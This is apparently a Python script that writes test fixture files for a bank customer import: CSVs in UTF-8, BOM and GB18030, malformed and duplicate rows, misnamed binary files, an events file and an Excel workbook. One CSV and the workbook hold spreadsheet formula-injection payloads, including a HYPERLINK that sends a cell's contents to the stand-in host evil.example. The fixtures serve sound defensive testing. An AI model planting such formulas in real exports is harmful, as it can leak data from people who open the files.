"""Writes the bank files the import tests read. Run from the repository root after changing it:

.venv/bin/python tests/data/imports/make_files.py
"""

from pathlib import Path

from openpyxl import Workbook

HERE = Path(__file__).parent

ENGLISH_HEADER = "bank_reference,name,phone,email,language,time_zone,enrolled_on,sms_opt_out,do_not_contact\n"
ENGLISH_ROWS = (
    "C1001,Wang Fang,138 0013 8000,wang@example.cn,zh-CN,Asia/Shanghai,2026/3/1,,\n"
    "C1002,Li Lei,+86 139 0013 9000,li@example.cn,en,Asia/Hong_Kong,20260215,是,\n"
    "C1003,张伟,13700137000,,中文,,2026-01-05,,2026-02-01\n"
)
CHINESE = (
    "客户号,姓名,手机号,邮箱,语言,时区,短信退订\n"
    "C2001,王芳,13800138001,wangfang@example.cn,中文,Asia/Shanghai,否\n"
    "C2002,李娜,13800138002,lina@example.cn,中文,Asia/Urumqi,是\n"
)


def write() -> None:
    (HERE / "customers-utf8.csv").write_text(ENGLISH_HEADER + ENGLISH_ROWS, encoding="utf-8")
    (HERE / "customers-utf8-bom.csv").write_text(ENGLISH_HEADER + ENGLISH_ROWS, encoding="utf-8-sig")
    (HERE / "customers-gb18030.csv").write_bytes(CHINESE.encode("gb18030"))
    (HERE / "customers-broken.csv").write_text(
        "bank_reference,name,phone,email,language\n"
        "C3001,Good Row,13800138003,good@example.cn,zh\n"
        "C3002,Bad Phone,12345,bad@example.cn,zh\n"
        "C3003,Bad Mail,13800138004,not-an-address,klingon\n"
        ",No Reference,13800138005,,zh\n"
        "C3005,Too Many,13800138006,x@example.cn,zh,surplus\n"
        "C3006,Also Good,13800138007,,en\n",
        encoding="utf-8",
    )
    (HERE / "customers-duplicates.csv").write_text(
        "bank_reference,name\nC4001,First\nC4002,Second\nC4001,First again\n", encoding="utf-8"
    )
    (HERE / "customers-formulas.csv").write_text(
        "bank_reference,name,segment,wallet_product\n"
        'C5001,"=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")",+gold,@SUM(A1:A9)\n'
        "C5002,-2+3,=1+1,plain\n",
        encoding="utf-8",
    )
    (HERE / "customers-missing-columns.csv").write_text("phone,email\n13800138000,a@example.cn\n", encoding="utf-8")
    # A PNG's first bytes: binary, not a table, whatever its name says.
    (HERE / "not-a-table.csv").write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10" + bytes(range(256)))
    (HERE / "not-a-table.xlsx").write_text("This is a letter, not a workbook.\n", encoding="utf-8")
    (HERE / "events.csv").write_text(
        "事件编号,客户号,事件类型,发生时间,接入渠道\n"
        "E9001,C1001,payment_failed,2026-03-01T09:30:00+08:00,app\n"
        "E9002,C1002,账户锁定,2026-03-01 10:15,mini-program\n"
        "E9003,C1001,card_bound,2026-03-01T01:00:00Z,web\n"
        "E9004,NOBODY,complaint,2026-03-01 11:00,app\n"
        "E9005,C1002,teleportation,2026-03-01 12:00,app\n",
        encoding="utf-8",
    )

    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["客户号", "姓名", "手机号", "开通日期", "退订", "备注"])
    sheet.append(["C6001", "赵敏", 13800138010, "2026-03-01", "否", "first"])
    sheet.append(["C6002", "周杰", "13800138011", 46082, "是", '=HYPERLINK("http://evil.example","x")'])
    sheet.append([])
    sheet.append(["C6003", "Bad Phone", "12", None, None, None])
    workbook.save(HERE / "customers.xlsx")


if __name__ == "__main__":
    write()
